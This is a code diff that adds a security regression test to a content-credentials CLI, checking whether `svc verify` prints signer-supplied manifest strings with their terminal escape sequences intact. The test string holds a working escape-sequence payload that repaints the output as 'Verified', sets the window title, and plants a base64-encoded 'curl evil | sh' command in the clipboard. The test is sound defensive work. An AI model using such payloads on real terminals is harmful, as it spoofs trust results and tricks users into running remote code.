@@ -10,7 +10,9 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { Webhook } from "standardwebhooks";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import type { Context } from "../../../packages/cli/src/command.ts";
 import { writeFileAtomic } from "../../../packages/cli/src/commands/shared.ts";
+import { printVerdict } from "../../../packages/cli/src/commands/verify.ts";
 import { resolveConfig } from "../../../packages/cli/src/config.ts";
 import { EXIT } from "../../../packages/cli/src/exit.ts";
 import { main } from "../../../packages/cli/src/main.ts";
@@ -224,5 +226,36 @@ describe("#21 review: SDK and redirects", () => {
     } finally {
       await new Promise<void>((ok) => redirector.close(() => ok()));
     }
+  });
+});
+
+describe("#21 review: what `svc verify` prints from a file's own manifest", () => {
+  it("strings a signer wrote (generator, organization, warnings) cannot drive the terminal", () => {
+    // A self-signed file carries any claim_generator_info name and certificate O= it likes (UTF8String allows ESC);
+    // the service reports them as claims.generator / claims.origin, and svc prints them to the user's terminal.
+    // Here: erase the line above and overwrite the headline, set the window title, and write the clipboard (OSC 52).
+    const spoof = "\u001b[1A\u001b[2K\rVerified Content Credentials\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u009b31m";
+    let printed = "";
+    const ctx = {
+      paint: (_: string, t: string) => t,
+      out: (t: string) => {
+        printed += t;
+      },
+    } as unknown as Context;
+    printVerdict(ctx, {
+      status: "valid_manifest_untrusted_signer",
+      confidence: 0.5,
+      user_explanation: "Intact manifest from an unknown signer.",
+      claims: { origin: `Evil Org${spoof}`, generator: `Camera${spoof}`, created_at: null },
+      proves: [],
+      does_not_prove: [],
+      warnings: [`remote warning${spoof}`],
+    } as never);
+    expect(printed).toContain("Camera");
+    // FINDING: printVerdict writes claims.origin/generator (and warnings, explanations) as received, so a signer's
+    // escape sequences reach the terminal: a valid_manifest_untrusted_signer file can repaint itself as "Verified"
+    // or write the clipboard. Fix: replace C0/C1 controls (except \n) and ESC in every server-provided string before
+    // printing (one helper in output.ts used by every human-readable printer); --json is unaffected.
+    expect(printed).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
   });
 });
